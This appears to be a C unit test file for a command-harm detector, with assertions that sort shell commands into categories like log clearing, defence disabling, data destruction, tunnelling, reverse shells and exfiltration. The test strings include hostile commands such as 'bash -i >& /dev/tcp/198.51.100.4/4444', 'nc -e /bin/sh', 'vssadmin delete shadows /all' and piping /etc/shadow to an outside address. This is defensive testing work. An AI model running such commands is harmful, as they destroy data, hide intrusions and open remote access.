#include "base/deed.h"

#include <stdio.h>

#include "test.h"

/* "obstruction hiding-command high", of the first deed; "-" where there is none. */
static const char *deed(const char *command)
{
	static char text[120];
	const struct deed *deeds[HARM_COUNT];

	if (!deeds_of(span_text(command), deeds))
		return "-";
	for (size_t harm = 0; harm < HARM_COUNT; harm++)
		if (deeds[harm])
			snprintf(text, sizeof text, "%s %s %s", harm_name((enum harm)harm), deeds[harm]->rule + 9,
				 level_name(deeds[harm]->level));
	return text;
}

TEST(what_clears_records_is_told_and_rotation_is_not)
{
	assert_string_equal(deed("wevtutil.exe cl Security"), "obstruction hiding-command high");
	assert_string_equal(deed("cmd /c \"wev^tutil  CL \"\"Security\"\"\""), "obstruction hiding-command high");
	assert_string_equal(deed("wevtutil sl Security /e:false"), "obstruction hiding-command high");
	assert_string_equal(deed("wevtutil qe Security"), "-");
	assert_string_equal(deed("journalctl --vacuum-time=1s"), "obstruction hiding-command high");
	assert_string_equal(deed("journalctl --vacuum-size=1M"), "obstruction hiding-command high");
	assert_string_equal(deed("journalctl --vacuum-time=30d"), "-");
	assert_string_equal(deed("journalctl --vacuum-time=2months"), "-");
	assert_string_equal(deed("journalctl --vacuum-size=500M"), "-");
	assert_string_equal(deed("journalctl --rotate"), "-");
	assert_string_equal(deed("rm -rf /var/log"), "obstruction hiding-command high");
	assert_string_equal(deed("echo > /var/log/auth.log"), "obstruction hiding-command high");
	assert_string_equal(deed("sed -i '/203.0.113.7/d' /var/log/auth.log"), "obstruction hiding-command high");
	assert_string_equal(deed("rm -f /var/log/nginx/access.log.15.gz"), "-");
	assert_string_equal(deed("rm -f /var/log/*.gz"), "-");
	assert_string_equal(deed("truncate -s 0 /var/log/app/debug.log"), "-");
	assert_string_equal(deed("grep root /var/log/auth.log 2>/dev/null"), "-");
	assert_string_equal(deed("tail -f /var/log/syslog"), "-");
	assert_string_equal(deed("set +o history"), "obstruction hiding-command high");
	assert_string_equal(deed("> ~/.bash_history"), "obstruction hiding-command high");
	assert_string_equal(deed("grep docker ~/.bash_history 2>/dev/null"), "-");
	assert_string_equal(deed("history | grep docker"), "-");
}

TEST(what_stops_defences_is_told_and_tending_them_is_not)
{
	assert_string_equal(deed("Set-MpPreference -DisableRealtimeMonitoring $true"), "obstruction hiding-command high");
	assert_string_equal(deed("Set-MpPreference -DisableRealtimeMonitoring $false"), "-");
	assert_string_equal(deed("Add-MpPreference -ExclusionPath C:\\Users\\Public"), "obstruction hiding-command high");
	assert_string_equal(deed("powershell.exe -c Add-MpPreference -ExclusionPath 'D:\\SQLData'"), "-");
	assert_string_equal(deed("systemctl disable --now rsyslog"), "obstruction hiding-command high");
	assert_string_equal(deed("systemctl restart auditd"), "-");
	assert_string_equal(deed("systemctl kill -s HUP rsyslog.service"), "-");
	assert_string_equal(deed("systemctl stop nginx"), "-");
	assert_string_equal(deed("kill -9 $(pidof rsyslogd)"), "obstruction hiding-command high");
	assert_string_equal(deed("netsh advfirewall set currentprofile state off"), "obstruction hiding-command high");
	assert_string_equal(deed("Set-NetFirewallProfile -All -Enabled False"), "obstruction hiding-command high");
	assert_string_equal(deed("Set-NetFirewallProfile -All -Enabled True"), "-");
	assert_string_equal(deed("iptables -F"), "obstruction weakening-command medium");
	assert_string_equal(deed("iptables -A INPUT -p tcp --dport 22 -j ACCEPT"), "-");
	assert_string_equal(deed("date -s '2024-01-01'"), "obstruction weakening-command medium");
	assert_string_equal(deed("date +%s"), "-");
	assert_string_equal(deed("touch -r /bin/ls /usr/sbin/x"), "obstruction times-command medium");
	assert_string_equal(deed("touch -d yesterday a.txt"), "obstruction times-command-listed low");
}

TEST(what_destroys_is_told_and_cleaning_up_is_not)
{
	assert_string_equal(deed("\"C:\\Windows\\System32\\vssadmin.exe\" delete shadows /all"),
			    "destruction shadows-removed high");
	assert_string_equal(deed("vssadmin delete shadows /for=C: /oldest"), "destruction oldest-shadow-removed low");
	assert_string_equal(deed("vssadmin list shadows"), "-");
	assert_string_equal(deed("wbadmin delete catalog -quiet"), "destruction backups-removed high");
	assert_string_equal(deed("wbadmin delete systemstatebackup -keepVersions:5"), "-");
	assert_string_equal(deed("wbadmin delete systemstatebackup -keepVersions:0"), "destruction backups-removed high");
	assert_string_equal(deed("dd if=/dev/zero of=/dev/sda bs=1M"), "destruction device-overwritten high");
	assert_string_equal(deed("sudo dd if=debian.iso of=/dev/sdb"), "-");
	assert_string_equal(deed("apt add of=/dev/sda"), "-");
	assert_string_equal(deed("rm -rf /srv /home"), "destruction data-deleted medium");
	assert_string_equal(deed("rm -rf /srv/app/node_modules"), "-");
	assert_string_equal(deed("rm -rf /tmp/build-1"), "-");
	assert_string_equal(deed("rd /s /q D:\\build\\out"), "-");
	assert_string_equal(deed("cmd /c rd /s /q D:\\Shares"), "destruction data-deleted medium");
	assert_string_equal(deed("mysql -e 'DROP DATABASE crm'"), "destruction data-deleted medium");
	assert_string_equal(deed("mysql -e 'DROP DATABASE test_eva'"), "-");
	assert_string_equal(deed("find /srv/backup -mtime +14 -delete"), "-");
	assert_string_equal(deed("find /srv -type f -exec shred -u {} \\;"), "destruction files-wiped high");
}

TEST(what_lets_somebody_in_is_told_and_going_out_is_not)
{
	assert_string_equal(deed("ssh -fN -R 2222:localhost:22 u@198.51.100.4"), "control tunnel-command medium");
	assert_string_equal(deed("ssh -NfR 2222:localhost:22 u@198.51.100.4"), "control tunnel-command medium");
	assert_string_equal(deed("ssh -L 5432:db:5432 eva@bastion"), "-");
	assert_string_equal(deed("scp -r u@host:/x ."), "-");
	assert_string_equal(deed("rsync -r -e 'ssh -p 22' a b:"), "-");
	assert_string_equal(deed("ssh-keygen -R host:22"), "-");
	assert_string_equal(deed("bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"), "control reverse-shell high");
	assert_string_equal(deed("nc -e /bin/sh 198.51.100.4 4444"), "control reverse-shell high");
	assert_string_equal(deed("nc -zv db01 5432"), "-");
	assert_string_equal(deed("svc.exe client 198.51.100.4:443 R:socks"), "control tunnel-tool high");
	assert_string_equal(deed("netsh interface portproxy add v4tov4 listenport=1 connectport=2"),
			    "control tunnel-command medium");
	assert_string_equal(deed("netsh interface portproxy show all"), "-");
	assert_string_equal(deed("psexec \\\\srv -s cmd"), "control run-elsewhere medium");
}

TEST(what_is_sent_to_a_bare_address_is_told)
{
	assert_string_equal(deed("tar cf - /home/git | nc 198.51.100.4 4444"), "theft sending-command medium");
	assert_string_equal(deed("tar cf - /home/git | nc 10.1.2.3 4444"), "-");
	assert_string_equal(deed("cat /etc/shadow > /dev/tcp/198.51.100.4/9001"), "theft sending-command medium");
	assert_true(deed_names_public_address(SPAN("x@198.51.100.4:/y")));
	assert_false(deed_names_public_address(SPAN("x@10.0.0.4:/y 192.168.1.1 172.16.0.1 127.0.0.1")));
	assert_false(deed_names_public_address(SPAN("version 1.2.3.4.5 300.1.1.1 1.2.3")));
}

TEST(one_command_may_do_harm_of_several_kinds)
{
	const struct deed *deeds[HARM_COUNT];

	assert_int_equal(deeds_of(SPAN("vssadmin delete shadows /all & wevtutil cl System"), deeds), 2);
	assert_non_null(deeds[HARM_DESTRUCTION]);
	assert_non_null(deeds[HARM_OBSTRUCTION]);
	assert_int_equal(deeds_of(SPAN(""), deeds), 0);
}

TEST(lines_of_scripts_without_comments_and_heads_of_functions)
{
	struct span rest = SPAN("# Clear-EventLog x\nfunction Clear-EventLog {\n"
				"<#\nPS> Clear-EventLog\n#>\n  Clear-EventLog System  \n");

	assert_span(deed_line(&rest), "Clear-EventLog System");
	assert_span(deed_line(&rest), "");
}
